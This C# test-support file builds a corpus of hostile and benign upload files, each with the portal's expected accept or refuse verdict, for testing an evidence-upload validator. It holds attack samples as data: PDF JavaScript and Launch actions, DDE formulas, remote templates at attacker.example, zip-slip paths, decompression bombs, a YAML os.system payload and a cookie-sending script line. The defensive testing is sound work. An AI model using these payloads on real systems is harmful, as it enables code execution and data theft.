using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Wordprocessing;
using Hyperlink = DocumentFormat.OpenXml.Wordprocessing.Hyperlink;
using Text = DocumentFormat.OpenXml.Wordprocessing.Text;
using Run = DocumentFormat.OpenXml.Wordprocessing.Run;
using PdfSharp.Drawing;

namespace Portal.Tests.TestSupport;

/// <summary>
/// A corpus of hostile and tricky evidence files, each made by code here (no binary blobs), with the outcome the portal
/// must reach: accepted, or refused with a message containing the given fragment. Benign files of every type are in it
/// too, so a check that refuses too much fails as surely as one that lets through too much.
/// </summary>
public static class HostileDocuments
{
    /// <summary>One file of the corpus; <see cref="Refusal"/> is null when the file must be accepted.</summary>
    public sealed record Case(string Name, string FileName, Func<byte[]> Content, string? Refusal);

    private const string ContentTypesNs = "http://schemas.openxmlformats.org/package/2006/content-types";
    private const string RelsNs = "http://schemas.openxmlformats.org/package/2006/relationships";
    private const string WordNs = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private const string SheetNs = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private const string RelTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string OdtMime = "application/vnd.oasis.opendocument.text";
    private const string OdsMime = "application/vnd.oasis.opendocument.spreadsheet";

    private static readonly Lazy<byte[]> Bomb = new(() => Zip(("mimetype", null, 300L << 20)));
    private static readonly Lazy<byte[]> BigDocx = new(() => Zip(
        ("[Content_Types].xml", ContentTypes(), 0), ("word/document.xml", WordDocument("<w:p/>"), 0), ("word/media/big.bin", null, 200L << 20)));

    public static IReadOnlyList<Case> All { get; } = Build();

    public static Case Get(string name) => All.Single(c => c.Name == name);

    public static TheoryData<string> Names()
    {
        var data = new TheoryData<string>();
        foreach (var c in All)
        {
            data.Add(c.Name);
        }

        return data;
    }

    private static List<Case> Build()
    {
        var cases = new List<Case>();
        void Accept(string name, string fileName, Func<byte[]> content) => cases.Add(new(name, fileName, content, null));
        void Refuse(string name, string fileName, Func<byte[]> content, string reason) => cases.Add(new(name, fileName, content, reason));

        // Benign documents that must still be accepted.
        Accept("pdf-hand-written", "report.pdf", () => Pdf());
        Accept("pdf-made-by-pdfsharp", "pdfsharp.pdf", PdfSharpDocument);
        Accept("pdf-with-object-stream", "compressed.pdf", () => PdfWithObjectStream(padding: 0));
        Accept("pdf-with-trailing-newlines", "trailing.pdf", () => [.. Pdf(), .. "\r\n\r\n"u8]);
        Accept("pdf-with-web-link", "links.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://developer.example/api) >> >>"]));
        Accept("docx-made-by-openxml-sdk", "specification.docx", OpenXmlSdkDocx);
        Accept("docx-minimal", "minimal.docx", SampleDocuments.Docx);
        Accept("docx-page-field", "fields.docx", () => Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"));
        Accept("xlsx-made-by-openxml-sdk", "figures.xlsx", OpenXmlSdkXlsx);
        Accept("odt-plain", "letter.odt", () => Odf(OdtMime, "<office:text><text:p>Plain letter</text:p></office:text>"));
        Accept("odt-empty-scripts-element", "scripts-empty.odt", () => Odf(OdtMime, "<office:text><text:p>Letter</text:p></office:text>", beforeBody: "<office:scripts/>"));
        Accept("ods-plain", "figures.ods", () => Odf(OdsMime, "<office:spreadsheet><table:table table:name=\"Sheet1\"/></office:spreadsheet>"));
        Accept("png-one-pixel", "diagram.png", Png);
        Accept("jpeg-with-thumbnail", "photo.jpg", () => Jpeg(thumbnail: true));
        Accept("jpeg-plain", "photo.jpeg", () => Jpeg(thumbnail: false));
        Accept("txt-prose-with-angle-brackets", "notes.txt", () => Utf8("If a < b and c > d, reply to <your name> => done. JavaScript is a language; see https://example.org/a?b=1&c=2.\r\n"));
        Accept("txt-with-typography", "quotes.txt", () => Utf8("\uFEFF“Quoted” — dash, café, 5 % & 6 > 4 <- arrow\n"));
        Accept("csv-with-negative-numbers", "figures.csv", () => Utf8("name,change,note\r\nAlpha,-5,- bullet point\r\nBeta,+3,@home\r\nGamma,2,email@example.org\r\n"));
        Accept("json-openapi", "openapi.json", () => Utf8("{\"openapi\": \"3.1.0\", \"info\": {\"title\": \"API <v1>\", \"version\": \"1\"}}"));
        Accept("yaml-with-anchors-and-standard-tags", "openapi.yaml", () => Utf8("openapi: 3.1.0\ninfo: &info\n  title: !!str API\n  version: '1'\ncopy: *info\n"));
        Accept("yaml-with-local-tag", "template.yaml", () => Utf8("Resources:\n  Bucket:\n    Name: !Ref BucketName\n"));

        // Refused before: programs and web pages under document names, other types, double extensions.
        Refuse("exe-named-pdf", "setup.pdf", SampleDocuments.Executable, "is named as a PDF");
        Refuse("html-named-pdf", "page.pdf", SampleDocuments.Html, "is named as a PDF");
        Refuse("exe-named-docx", "installer.docx", SampleDocuments.Executable, "is named as a Word document");
        Refuse("exe-named-png", "picture.png", SampleDocuments.Executable, "is named as a PNG image");
        Refuse("svg-named-png", "logo.png", () => Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), "is named as a PNG image");
        Refuse("html-named-jpg", "photo.jpg", SampleDocuments.Html, "is named as a JPEG image");
        Refuse("pdf-named-xlsx", "sheet.xlsx", () => Pdf(), "is named as a Excel workbook");
        Refuse("docx-named-odt", "letter.odt", SampleDocuments.Docx, "is named as a OpenDocument text");
        Refuse("empty-pdf", "empty.pdf", () => [], "is named as a PDF");
        Refuse("binary-named-txt", "notes.txt", () => [.. "text"u8, 0, 1, 2], "is named as a text file");
        Refuse("js-named-json", "data.json", () => Utf8("alert(document.domain)"), "is named as a JSON file");
        Refuse("double-extension", "report.pdf.exe", SampleDocuments.Executable, "is not a type the portal accepts");
        Refuse("executable", "tool.exe", SampleDocuments.Executable, "is not a type the portal accepts");
        Refuse("html", "page.html", SampleDocuments.Html, "is not a type the portal accepts");
        Refuse("svg", "logo.svg", () => Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "is not a type the portal accepts");

        // PDF active content, read with PDFsharp.
        Refuse("pdf-javascript-open-action", "js-open.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "This PDF contains JavaScript");
        Refuse("pdf-javascript-name-tree", "js-names.pdf", () => Pdf(catalogExtra: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", extra: ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]), "This PDF contains JavaScript");
        Refuse("pdf-javascript-link", "js-link.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"]), "This PDF contains JavaScript");
        Refuse("pdf-javascript-page-open", "js-page.pdf", () => Pdf(pageExtra: "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"), "This PDF contains JavaScript");
        Refuse("pdf-javascript-document-action", "js-aa.pdf", () => Pdf(catalogExtra: "/AA << /WC << /S /JavaScript /JS 6 0 R >> >>", extra: [Stream("app.alert(1)")]), "This PDF contains JavaScript");
        Refuse("pdf-javascript-hex-escaped-name", "js-hex.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"), "This PDF contains JavaScript");
        Refuse("pdf-javascript-form-field", "js-field.pdf", () => Pdf(catalogExtra: "/AcroForm << /Fields [6 0 R] >>", extra: ["<< /FT /Tx /T (name) /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>"]), "This PDF contains JavaScript");
        Refuse("pdf-launch", "launch.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /Launch /F (cmd.exe) >>"), "Launch action");
        Refuse("pdf-launch-windows", "launch-win.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /Launch /Win << /F (calc.exe) /P (/c calc) >> >>"), "Launch action");
        Refuse("pdf-embedded-file", "attached.pdf", () => Pdf(catalogExtra: "/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>", extra: ["<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>", EmbeddedFile()]), "files embedded");
        Refuse("pdf-file-attachment-annotation", "annotated.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>", "<< /Type /Filespec /F (a.exe) >>"]), "files embedded");
        Refuse("pdf-go-to-embedded", "gotoe.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"), "files embedded");
        Refuse("pdf-xfa", "form.pdf", () => Pdf(catalogExtra: "/AcroForm << /Fields [] /XFA 6 0 R >>", extra: [Stream("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>")]), "XFA form");
        Refuse("pdf-rich-media", "flash.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"]), "embedded media");
        Refuse("pdf-screen-annotation", "screen.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] >>"]), "embedded media");
        Refuse("pdf-3d-annotation", "model.pdf", () => Pdf(pageExtra: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] >>"]), "embedded media");
        Refuse("pdf-sound-action", "sound.pdf", () => Pdf(catalogExtra: "/OpenAction << /S /Sound /Sound 6 0 R >>", extra: ["<< /Length 0 /R 8000 >>\nstream\n\nendstream"]), "embedded media");
        Refuse("pdf-followed-by-executable", "polyglot-exe.pdf", () => [.. Pdf(), .. SampleDocuments.Executable()], "other data after its end");
        Refuse("pdf-followed-by-html", "polyglot-html.pdf", () => [.. Pdf(), .. SampleDocuments.Html()], "other data after its end");
        Refuse("pdf-followed-by-zip", "polyglot-zip.pdf", () => [.. Pdf(), .. SampleDocuments.Docx()], "other data after its end");
        Refuse("pdf-truncated", "truncated.pdf", () => Pdf()[..200], "other data after its end");
        // 200 MB of padding in an object stream packs into about 200 KB: PDFsharp would inflate it all into memory.
        Refuse("pdf-object-stream-bomb", "bomb.pdf", () => ObjectStreamBomb.Value, "unpack to more than");
        Refuse("pdf-unreadable", "garbage.pdf", () => Utf8("%PDF-1.7\nthis is not a PDF at all\n%%EOF\n"), "could not be read");
        Refuse("pdf-password-protected", "secret.pdf", EncryptedPdf, "could not be read");

        // Word and Excel.
        Refuse("docx-vba-project", "macro.docx", () => Docx(parts: [("word/vbaProject.bin", "binary macro project")]), "macros (VBA)");
        Refuse("docm-content-type", "renamed-docm.docx", () => Docx(mainType: "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros (VBA)");
        Refuse("docx-vba-relationship", "macro-rel.docx", () => Docx(parts: [("word/_rels/document.xml.rels", Rels("<Relationship Id=\"r9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vba.bin\"/>"))]), "macros (VBA)");
        Refuse("xlsx-vba-project", "macro.xlsx", () => Xlsx(parts: [("xl/vbaProject.bin", "binary macro project")]), "macros (VBA)");
        Refuse("xlsm-content-type", "renamed-xlsm.xlsx", () => Xlsx(mainType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros (VBA)");
        Refuse("docx-activex-part", "activex.docx", () => Docx(parts: [("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>")]), "ActiveX");
        Refuse("docx-activex-content-type", "activex-type.docx", () => Docx(extraTypes: "<Override PartName=\"/word/control.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>"), "ActiveX");
        Refuse("docx-ole-object", "ole.docx", () => Docx(parts: [("word/embeddings/oleObject1.bin", "ole package")]), "embedded object (OLE)");
        Refuse("docx-dde-field", "dde.docx", () => Docx("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"), "DDE");
        Refuse("docx-dde-field-split-across-runs", "dde-split.docx", () => Docx("<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd \"/c calc\"</w:instrText></w:r></w:p>"), "DDE");
        Refuse("docx-dde-simple-field", "dde-simple.docx", () => Docx("<w:p><w:fldSimple w:instr=\"DDE cmd &quot;/c calc&quot;\"/></w:p>"), "DDE");
        Refuse("docx-dde-in-footer", "dde-footer.docx", () => Docx(parts: [("word/footer1.xml", WordDocument("<w:p><w:r><w:instrText> DDEAUTO cmd \"/c calc\" </w:instrText></w:r></w:p>"))]), "DDE");
        Refuse("xlsx-dde-formula", "dde.xlsx", () => Xlsx("<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row>"), "DDE");
        Refuse("xlsx-dde-link", "ddelink.xlsx", () => Xlsx(parts: [("xl/externalLinks/externalLink1.xml", $"<externalLink xmlns=\"{SheetNs}\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")]), "DDE");
        Refuse("docx-remote-template", "template.docx", () => Docx(parts: [("word/_rels/settings.xml.rels", Rels($"<Relationship Id=\"r1\" Type=\"{RelTypes}/attachedTemplate\" Target=\"http://attacker.example/t.dotm\" TargetMode=\"External\"/>"))]), "remote template");
        Refuse("docx-remote-picture", "tracking.docx", () => Docx(parts: [("word/_rels/document.xml.rels", Rels($"<Relationship Id=\"r1\" Type=\"{RelTypes}/image\" Target=\"\\\\attacker.example\\share\\a.png\" TargetMode=\"External\"/>"))]), "outside file");
        Refuse("xlsx-external-workbook", "linked.xlsx", () => Xlsx(parts: [("xl/externalLinks/_rels/externalLink1.xml.rels", Rels($"<Relationship Id=\"r1\" Type=\"{RelTypes}/externalLinkPath\" Target=\"http://attacker.example/b.xlsx\" TargetMode=\"External\"/>"))]), "outside file");
        Refuse("docx-zip-slip-parent", "slip.docx", () => Docx(parts: [("../../evil.txt", "x")]), "zip-slip");
        Refuse("docx-zip-slip-absolute", "slip-abs.docx", () => Docx(parts: [("/etc/cron.d/evil", "x")]), "zip-slip");
        Refuse("docx-zip-slip-backslash", "slip-back.docx", () => Docx(parts: [("word\\..\\..\\evil.txt", "x")]), "zip-slip");
        Refuse("docx-zip-slip-drive", "slip-drive.docx", () => Docx(parts: [("C:/Windows/evil.txt", "x")]), "zip-slip");
        Refuse("xlsx-zip-slip", "slip.xlsx", () => Xlsx(parts: [("xl/../../evil.txt", "x")]), "zip-slip");
        Refuse("docx-200-mb-entry", "huge.docx", () => BigDocx.Value, "unpacks to 200 MB");
        Refuse("docx-lying-size-header", "lying.docx", () => LyingDocx(), "more packed data than it says");
        Refuse("docx-too-many-parts", "parts.docx", () => Docx(parts: [.. Enumerable.Range(0, 2001).Select(i => ($"word/media/p{i}.txt", "x"))]), "parts");
        Refuse("docx-after-executable", "sfx.docx", () => [.. SampleDocuments.Executable(), .. SampleDocuments.Docx()], "is named as a Word document");
        Refuse("docx-followed-by-html", "trailing.docx", () => [.. SampleDocuments.Docx(), .. SampleDocuments.Html()], "other data after its end");
        Refuse("docx-xml-entity-expansion", "laughs.docx", () => Docx(documentXml: "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><w:document xmlns:w=\"" + WordNs + "\"><w:body>&b;</w:body></w:document>"), "damaged");
        Refuse("docx-malformed-xml", "broken.docx", () => Docx(documentXml: "<w:document xmlns:w=\"" + WordNs + "\"><w:body>"), "damaged");

        // OpenDocument.
        Refuse("odt-basic-macro", "macro.odt", () => Odf(OdtMime, parts: [("Basic/Standard/Module1.xml", "<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\">Sub Main\nShell(\"calc\")\nEnd Sub</script:module>"), ("Basic/script-lc.xml", "<library:libraries xmlns:library=\"http://openoffice.org/2000/library\"/>")]), "macros or scripts");
        Refuse("odt-python-script", "script.odt", () => Odf(OdtMime, parts: [("Scripts/python/run.py", "import os\nos.system('calc')\n")]), "macros or scripts");
        Refuse("odt-manifest-lists-basic", "manifest.odt", () => Odf(OdtMime, manifestExtra: "<manifest:file-entry manifest:full-path=\"Basic/\" manifest:media-type=\"application/binary\"/>"), "macros or scripts");
        Refuse("odt-manifest-script-type", "manifest-type.odt", () => Odf(OdtMime, manifestExtra: "<manifest:file-entry manifest:full-path=\"x.js\" manifest:media-type=\"application/javascript\"/>"), "macros or scripts");
        Refuse("odt-event-listener", "events.odt", () => Odf(OdtMime, "<office:text><text:p>x</text:p></office:text>", beforeBody: "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\"/></office:event-listeners></office:scripts>"), "macros or scripts");
        Refuse("odt-macro-link", "macro-link.odt", () => Odf(OdtMime, "<office:text><text:p><text:a xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\">click</text:a></text:p></office:text>"), "macros or scripts");
        Refuse("ods-basic-macro", "macro.ods", () => Odf(OdsMime, "<office:spreadsheet/>", parts: [("Basic/Standard/Module1.xml", "<x/>")]), "macros or scripts");
        Refuse("odt-mimetype-inflation-bomb", "bomb.odt", () => Bomb.Value, "unpacks to 300 MB");
        Refuse("ods-zip-slip", "slip.ods", () => Odf(OdsMime, "<office:spreadsheet/>", parts: [("../evil.ods", "x")]), "zip-slip");
        Refuse("ods-wrong-mimetype", "sheet.ods", () => Odf(OdtMime, "<office:text/>"), "is named as a OpenDocument spreadsheet");

        // Images with something after their end.
        Refuse("png-followed-by-html", "polyglot.png", () => [.. Png(), .. SampleDocuments.Html()], "other data after its end");
        Refuse("png-followed-by-executable", "polyglot-exe.png", () => [.. Png(), .. SampleDocuments.Executable()], "other data after its end");
        Refuse("png-truncated", "truncated.png", () => Png()[..30], "incomplete or damaged");
        Refuse("png-without-header-chunk", "headless.png", () => [.. Png()[..8], .. Chunk("IEND", [])], "incomplete or damaged");
        Refuse("jpeg-followed-by-html", "polyglot.jpg", () => [.. Jpeg(thumbnail: true), .. SampleDocuments.Html()], "other data after its end");
        Refuse("jpeg-followed-by-zip", "polyglot-zip.jpeg", () => [.. Jpeg(thumbnail: false), .. SampleDocuments.Docx()], "other data after its end");
        Refuse("jpeg-without-end", "truncated.jpg", () => Jpeg(thumbnail: false)[..^2], "incomplete or damaged");

        // Text that is really markup or script.
        Refuse("txt-html-page", "page.txt", SampleDocuments.Html, "web page markup");
        Refuse("txt-svg", "image.txt", () => Utf8("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "web page markup");
        Refuse("txt-script-tag", "notes.txt", () => Utf8("Notes\n<SCRIPT src=//attacker.example/x.js></SCRIPT>"), "web page markup");
        Refuse("txt-event-handler", "img.txt", () => Utf8("hello <img src=x onerror=alert(1)>"), "web page markup");
        Refuse("txt-javascript", "code.txt", () => Utf8("var s = document.cookie; new Image().src = '//x/' + s;"), "JavaScript or another script");
        Refuse("txt-javascript-url", "link.txt", () => Utf8("Open javascript:alert(1) in your browser"), "JavaScript or another script");
        Refuse("txt-data-url", "data.txt", () => Utf8("data:text/html;base64,PHNjcmlwdD4="), "JavaScript or another script");
        Refuse("txt-jscript-activex", "run.txt", () => Utf8("var sh = new ActiveXObject('WScript.Shell'); sh.Run('calc');"), "JavaScript or another script");
        Refuse("csv-html", "table.csv", () => Utf8("a,b\r\n<html><body>x</body></html>,1\r\n"), "web page markup");
        Refuse("csv-hyperlink-formula", "links.csv", () => Utf8("name,link\r\nAlpha,=HYPERLINK(\"http://attacker.example\",\"Click\")\r\n"), "spreadsheet formulas");
        Refuse("csv-dde-formula", "dde.csv", () => Utf8("name,value\r\nAlpha,=cmd|' /C calc'!A0\r\n"), "spreadsheet formulas");
        Refuse("csv-plus-dde", "plus.csv", () => Utf8("a\r\n+cmd|' /C calc'!A0\r\n"), "spreadsheet formulas");
        Refuse("csv-at-formula", "at.csv", () => Utf8("a\r\n\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n"), "spreadsheet formulas");
        Refuse("json-html", "page.json", () => Utf8("{\"body\": \"<script>alert(1)</script>\"}"), "web page markup");
        Refuse("yaml-html", "page.yaml", () => Utf8("body: <html><body>x</body></html>\n"), "web page markup");
        Refuse("yaml-javascript", "script.yml", () => Utf8("url: javascript:alert(1)\n"), "JavaScript or another script");
        Refuse("yaml-python-tag", "payload.yaml", () => Utf8("run: !!python/object/apply:os.system [\"calc\"]\n"), "type tag");
        Refuse("yaml-global-tag", "payload2.yaml", () => Utf8("x: !<tag:yaml.org,2002:js/function> 'function(){}'\n"), "type tag");
        Refuse("yaml-broken", "broken.yaml", () => Utf8("a: [1, 2\nb: }\n"), "cannot be read as YAML");
        return cases;
    }

    // ---- PDF ----

    /// <summary>A one-page PDF written by hand: catalog 1, pages 2, page 3, content 4, font 5, then <paramref name="extra"/> from 6.</summary>
    public static byte[] Pdf(string catalogExtra = "", string pageExtra = "", string[]? extra = null)
    {
        var objects = new List<string>
        {
            $"<< /Type /Catalog /Pages 2 0 R {catalogExtra} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {pageExtra} >>",
            Stream("BT /F1 18 Tf 72 760 Td (Open API test evidence) Tj ET"),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        objects.AddRange(extra ?? []);
        var pdf = new StringBuilder("%PDF-1.7\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Count; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }

        var xref = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Count + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            pdf.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        }

        pdf.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Count + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(pdf.ToString());
    }

    private static readonly Lazy<byte[]> ObjectStreamBomb = new(() => PdfWithObjectStream(padding: 200L << 20));

    /// <summary>
    /// A PDF 1.5 file whose annotation (object 7) is compressed in an object stream (object 6), found through a
    /// cross-reference stream (object 8), as Acrobat and most modern writers save; <paramref name="padding"/> spaces
    /// follow the annotation inside the stream.
    /// </summary>
    public static byte[] PdfWithObjectStream(long padding)
    {
        var inner = new MemoryStream();
        using (var z = new ZLibStream(inner, CompressionLevel.Fastest, leaveOpen: true))
        {
            z.Write("7 0 << /Type /Annot /Subtype /Text /Rect [0 0 20 20] /Contents (note) >>"u8);
            var spaces = new byte[1 << 20];
            Array.Fill(spaces, (byte)' ');
            for (var left = padding; left > 0; left -= spaces.Length)
            {
                z.Write(spaces, 0, (int)Math.Min(spaces.Length, left));
            }
        }

        var objects = new List<byte[]>
        {
            Encoding.Latin1.GetBytes("<< /Type /Catalog /Pages 2 0 R >>"),
            Encoding.Latin1.GetBytes("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
            Encoding.Latin1.GetBytes("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>"),
            Encoding.Latin1.GetBytes(Stream("BT /F1 18 Tf 72 760 Td (Open API test evidence) Tj ET")),
            Encoding.Latin1.GetBytes("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
            Encoding.Latin1.GetBytes($"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {inner.Length} >>\nstream\n")
                .Concat(inner.ToArray()).Concat("\nendstream"u8.ToArray()).ToArray(),
        };
        var pdf = new MemoryStream();
        pdf.Write("%PDF-1.5\n"u8);
        var offsets = new List<long>();
        for (var i = 0; i < objects.Count; i++)
        {
            offsets.Add(pdf.Position);
            pdf.Write(Encoding.Latin1.GetBytes($"{i + 1} 0 obj\n"));
            pdf.Write(objects[i]);
            pdf.Write("\nendobj\n"u8);
        }

        // Cross-reference stream, /W [1 4 2]: free object 0, objects 1 to 6 at their offsets, 7 as the first object in
        // stream 6, and 8 (the cross-reference stream itself).
        var xrefOffset = pdf.Position;
        var entries = new MemoryStream();
        void Entry(byte type, long field2, int field3)
        {
            entries.WriteByte(type);
            var two = new byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(two, (uint)field2);
            entries.Write(two);
            entries.WriteByte((byte)(field3 >> 8));
            entries.WriteByte((byte)field3);
        }

        Entry(0, 0, 65535);
        offsets.ForEach(offset => Entry(1, offset, 0));
        Entry(2, 6, 0);
        Entry(1, xrefOffset, 0);
        pdf.Write(Encoding.Latin1.GetBytes($"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length {entries.Length} >>\nstream\n"));
        pdf.Write(entries.ToArray());
        pdf.Write(Encoding.Latin1.GetBytes($"\nendstream\nendobj\nstartxref\n{xrefOffset}\n%%EOF\n"));
        return pdf.ToArray();
    }

    private static string Stream(string content) => $"<< /Length {Encoding.Latin1.GetByteCount(content)} >>\nstream\n{content}\nendstream";

    private static string EmbeddedFile() => "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream";

    private static byte[] PdfSharpDocument()
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        var page = document.AddPage();
        using (var graphics = XGraphics.FromPdfPage(page))
        {
            graphics.DrawRectangle(XBrushes.SteelBlue, 40, 40, 200, 100);
        }

        using var buffer = new MemoryStream();
        document.Save(buffer);
        return buffer.ToArray();
    }

    private static byte[] EncryptedPdf()
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        document.AddPage();
        document.SecuritySettings.UserPassword = "secret";
        document.SecuritySettings.OwnerPassword = "owner";
        using var buffer = new MemoryStream();
        document.Save(buffer);
        return buffer.ToArray();
    }

    // ---- OOXML ----

    private static string ContentTypes(string mainPart = "/word/document.xml", string mainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", string extra = "") =>
        $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"{ContentTypesNs}\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        + $"<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"{mainPart}\" ContentType=\"{mainType}\"/>{extra}</Types>";

    private static string Rels(string relationships) => $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"{RelsNs}\">{relationships}</Relationships>";

    private static string WordDocument(string body) => $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"{WordNs}\"><w:body>{body}</w:body></w:document>";

    public static byte[] Docx(
        string body = "<w:p><w:r><w:t>Interface specification</w:t></w:r></w:p>",
        string mainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        string extraTypes = "",
        string? documentXml = null,
        (string Name, string Content)[]? parts = null) =>
        Zip([
            ("[Content_Types].xml", ContentTypes("/word/document.xml", mainType, extraTypes), 0),
            ("_rels/.rels", Rels($"<Relationship Id=\"rId1\" Type=\"{RelTypes}/officeDocument\" Target=\"word/document.xml\"/>"), 0),
            ("word/document.xml", documentXml ?? WordDocument(body), 0),
            .. (parts ?? []).Select(p => (p.Name, (string?)p.Content, 0L)),
        ]);

    private static byte[] Xlsx(
        string rows = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Figures</t></is></c></row>",
        string mainType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        (string Name, string Content)[]? parts = null) =>
        Zip([
            ("[Content_Types].xml", ContentTypes("/xl/workbook.xml", mainType), 0),
            ("_rels/.rels", Rels($"<Relationship Id=\"rId1\" Type=\"{RelTypes}/officeDocument\" Target=\"xl/workbook.xml\"/>"), 0),
            ("xl/workbook.xml", $"<workbook xmlns=\"{SheetNs}\" xmlns:r=\"{RelTypes}\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>", 0),
            ("xl/_rels/workbook.xml.rels", Rels($"<Relationship Id=\"rId1\" Type=\"{RelTypes}/worksheet\" Target=\"worksheets/sheet1.xml\"/>"), 0),
            ("xl/worksheets/sheet1.xml", $"<worksheet xmlns=\"{SheetNs}\"><sheetData>{rows}</sheetData></worksheet>", 0),
            .. (parts ?? []).Select(p => (p.Name, (string?)p.Content, 0L)),
        ]);

    private static byte[] OpenXmlSdkDocx()
    {
        using var buffer = new MemoryStream();
        using (var document = WordprocessingDocument.Create(buffer, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            var link = main.AddHyperlinkRelationship(new Uri("https://developer.example/api"), true);
            main.Document = new Document(new Body(
